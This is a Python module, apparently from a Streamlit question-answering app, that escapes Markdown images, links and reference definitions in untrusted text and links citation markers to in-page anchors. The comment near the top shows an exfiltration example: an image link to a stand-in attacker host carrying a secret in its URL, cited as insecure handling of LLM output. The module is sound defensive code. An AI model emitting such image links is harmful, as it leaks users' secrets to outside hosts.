"""Untrusted text (answers, questions, document text) as Markdown that cannot fetch, run or restyle anything."""
from __future__ import annotations

import re
from typing import Iterable, Iterator, Mapping

# A document can carry `![x](https://attacker/?q=<secret>)`: rendered, the browser fetches the URL and the
# secret leaves (OWASP LLM05, insecure output handling). Images and links are therefore shown as the text
# they are, never rendered; emphasis, lists and code still render. Raw HTML needs nothing here: st.markdown
# escapes it unless unsafe_allow_html is set, which no page does with untrusted text (a test checks), and
# escaping '<' ourselves would garble the redaction placeholders (<EMAIL_ADDRESS>) people need to read.
_IMAGE = re.compile(r"!\s*\[")
_LINK_TARGET = re.compile(r"\]\s*[(\[]")
_REFERENCE_DEFINITION = re.compile(r"^(\s{0,3})\[([^\]\n]+)\]:", re.MULTILINE)
_MARKDOWN_ESCAPES = {"$": "\\$", "~": "\\~"}
# A citation marker as the answer writes it ([3], or [3?] when passage 3 does not support the sentence), not one
# escaping defused (a backslash before it, or a link target or reference after it).
_MARKER = re.compile(r"(?<!\\)\[(\d{1,3})(\?)?\](?![(\[:\\])")
_ANCHOR = re.compile(r"gw-cite-[A-Za-z0-9-]+")


def safe_markdown(text: str) -> str:
    """`text` for st.markdown with no image, link, LaTeX (`$`) or strike-through (`~~`) left active."""
    text = _IMAGE.sub(lambda m: "!\\[", text)
    text = _LINK_TARGET.sub(lambda m: "\\]" + m.group(0)[1:], text)
    text = _REFERENCE_DEFINITION.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}\\]:", text)
    return "".join(_MARKDOWN_ESCAPES.get(ch, ch) for ch in text)


def link_markers(safe_text: str, anchors: Mapping[int, str]) -> str:
    """`safe_text` (already through safe_markdown) with each citation marker [n] or [n?] that has a card turned
    into an in-page link to it (#anchor: the browser scrolls, nothing is fetched); [n?] stays marked, in red.

    Only markers are linked, after escaping: a marker that escaping changed (`[1](…)` in the answer became
    `[1\\](…)`) is not one any more, and an anchor is one of ours (gw-cite-…) or nothing is linked."""

    def link(match: re.Match) -> str:
        anchor = anchors.get(int(match.group(1)))
        if not anchor or not _ANCHOR.fullmatch(anchor):
            return match.group(0)
        label = match.group(0) if not match.group(2) else f":red[{match.group(0)}]"
        return f"[{label}](#{anchor})"

    return _MARKER.sub(link, safe_text)


def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
    """A text stream for st.write_stream, each piece made safe. Pieces are whole sentences (the hot path
    releases a redacted sentence at a time), so a Markdown construct never straddles two of them."""
    for delta in deltas:
        yield safe_markdown(delta)
